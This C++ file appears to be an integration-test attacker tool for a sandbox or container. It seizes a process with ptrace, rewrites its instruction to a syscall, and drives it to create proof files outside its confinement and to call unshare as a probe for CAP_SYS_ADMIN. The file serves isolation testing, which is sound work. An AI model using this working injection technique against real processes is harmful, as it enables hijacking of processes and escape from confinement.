// SPDX-License-Identifier: Apache-2.0
// Makes a process work for us: PTRACE_SEIZE, then system calls of ours in its registers.
// Before the kernel's header, which defines what glibc's does not.
#include <sys/ptrace.h>

#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <optional>

#include "integration/tools/attacker.h"

namespace attacker {
namespace {

#if defined(__x86_64__)

constexpr int kPatience_ms = 5000;
constexpr unsigned long kSyscallInstruction = 0x050f;
// Below the red zone of the stack.
constexpr unsigned long kScratch = 2048;

/// True when the process has stopped; false when it is gone or does not stop.
bool wait_for_stop(pid_t pid) {
  const timespec moment{0, 1'000'000};
  for (int waited = 0; waited < kPatience_ms; ++waited) {
    int status = 0;
    const pid_t found = ::waitpid(pid, &status, __WALL | WNOHANG);
    if (found == pid) return WIFSTOPPED(status);
    if (found < 0) return false;
    ::nanosleep(&moment, nullptr);
  }
  return false;
}

class Victim {
 public:
  explicit Victim(pid_t pid) : pid_(pid) {
    if (::ptrace(PTRACE_GETREGS, pid_, 0, &before_) != 0) return;
    errno = 0;
    code_ = ::ptrace(PTRACE_PEEKTEXT, pid_, before_.rip, 0);
    if (errno != 0) return;
    const unsigned long patched =
        (static_cast<unsigned long>(code_) & ~0xfffful) | kSyscallInstruction;
    alive_ = ::ptrace(PTRACE_POKETEXT, pid_, before_.rip, patched) == 0;
  }

  ~Victim() {
    if (!alive_) return;
    ::ptrace(PTRACE_POKETEXT, pid_, before_.rip, code_);
    ::ptrace(PTRACE_SETREGS, pid_, 0, &before_);
  }

  Victim(const Victim&) = delete;
  Victim& operator=(const Victim&) = delete;

  bool obeys() const { return alive_; }

  /// The call's result, or nothing if the process has not made it.
  std::optional<long> call(long number, unsigned long first, unsigned long second = 0,
                           unsigned long third = 0, unsigned long fourth = 0) {
    if (!alive_) return {};
    user_regs_struct registers = before_;
    registers.rax = static_cast<unsigned long>(number);
    // No restart of the call that it was stopped in.
    registers.orig_rax = ~0ul;
    registers.rdi = first;
    registers.rsi = second;
    registers.rdx = third;
    registers.r10 = fourth;
    alive_ = ::ptrace(PTRACE_SETREGS, pid_, 0, &registers) == 0 && step() &&
             ::ptrace(PTRACE_GETREGS, pid_, 0, &registers) == 0;
    if (!alive_ || registers.rip != before_.rip + 2) return {};
    return static_cast<long>(registers.rax);
  }

  /// Puts the text on its stack; the address.
  unsigned long place(const std::string& text) {
    const unsigned long address = (before_.rsp - kScratch) & ~7ul;
    for (std::size_t at = 0; at <= text.size(); at += sizeof(long)) {
      long word = 0;
      ::memcpy(&word, text.data() + at, std::min(sizeof word, text.size() - at));
      ::ptrace(PTRACE_POKEDATA, pid_, address + at, word);
    }
    return address;
  }

 private:
  // Stops that were on their way (of the seizing itself, of a group stop) come before the one after
  // the instruction.
  bool step() {
    for (int tries = 0; tries < 4; ++tries) {
      if (::ptrace(PTRACE_SINGLESTEP, pid_, 0, 0) != 0 || !wait_for_stop(pid_)) return false;
      user_regs_struct now{};
      if (::ptrace(PTRACE_GETREGS, pid_, 0, &now) == 0 && now.rip == before_.rip + 2) return true;
    }
    return true;
  }

  pid_t pid_;
  user_regs_struct before_{};
  long code_ = 0;
  bool alive_ = false;
};

bool we_may_make_namespaces() {
  static const bool may = [] {
    const pid_t child = ::fork();
    if (child == 0) ::_exit(::unshare(CLONE_NEWUTS) == 0 ? 0 : 1);
    int status = 0;
    return ::waitpid(child, &status, 0) == child && WIFEXITED(status) && WEXITSTATUS(status) == 0;
  }();
  return may;
}

// Writes the host's files with the victim's descriptors, root, cwd and ids.
void write_proof(Victim& victim, pid_t pid, int directory, const std::string& path) {
  const auto made =
      victim.call(SYS_openat, static_cast<unsigned long>(static_cast<long>(directory)),
                  victim.place(path), O_WRONLY | O_CREAT, 0666);
  if (!made || *made < 0) return;
  report("reached", pid,
         "made to write a file of the host's from descriptor " + std::to_string(directory));
  victim.call(SYS_close, static_cast<unsigned long>(*made));
}

void make_it_work(Victim& victim, pid_t pid) {
  const auto who = victim.call(SYS_getpid, 0);
  if (!who || *who != pid) return report("noted", pid, "does not obey");
  report("noted", pid, "taken over");
  const std::string name = "proof-of-seizing-" + std::to_string(pid);
  write_proof(victim, pid, AT_FDCWD, aim().outside + "/" + name);
  write_proof(victim, pid, AT_FDCWD, climbing_path(name));
  for (const int directory : directories_of(pid))
    write_proof(victim, pid, directory, climbing_path(name));
  // What only CAP_SYS_ADMIN may. Where we may ourselves it is nothing gained.
  if (we_may_make_namespaces()) return;
  const auto made = victim.call(SYS_unshare, CLONE_NEWUTS);
  if (made && *made == 0) report("reached", pid, "made to use CAP_SYS_ADMIN");
}

#endif

}  // namespace

void take_over(pid_t pid) {
#if defined(__x86_64__)
  if (::ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return report("noted", pid, "seize " + error_name());
  report("noted", pid, "seized");
  ::ptrace(PTRACE_INTERRUPT, pid, 0, 0);
  if (!wait_for_stop(pid)) return;
  look(pid);
  {
    Victim victim(pid);
    // A program of the container's is nothing to gain from.
    if (victim.obeys() && !runs_our_program(pid)) make_it_work(victim, pid);
  }
  ::ptrace(PTRACE_DETACH, pid, 0, 0);
#else
  report("noted", pid, "seizing is written for x86-64 only");
#endif
}

}  // namespace attacker
